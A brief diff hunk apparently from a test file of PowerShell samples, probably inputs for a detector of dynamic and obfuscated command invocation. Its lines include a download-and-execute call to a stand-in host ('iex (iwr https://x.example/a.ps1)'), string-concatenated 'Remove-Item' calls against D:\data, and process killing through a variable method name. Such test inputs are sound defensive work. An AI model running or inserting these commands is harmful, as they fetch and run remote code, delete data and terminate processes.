@@ -136,6 +136,8 @@ iex (iwr https://x.example/a.ps1).Content
 & $name D:\data
 & ('Re' + 'move-Item') D:\data
 . ([scriptblock]::Create($x))
+return & ('Re' + 'move-Item') D:\data
+if ($a) { } & ('Re' + 'move-Item') D:\data
 $m = 'Kill'; Get-Process | ForEach-Object $m
 (Get-Process).$m()
 Invoke-Command -ScriptBlock $block
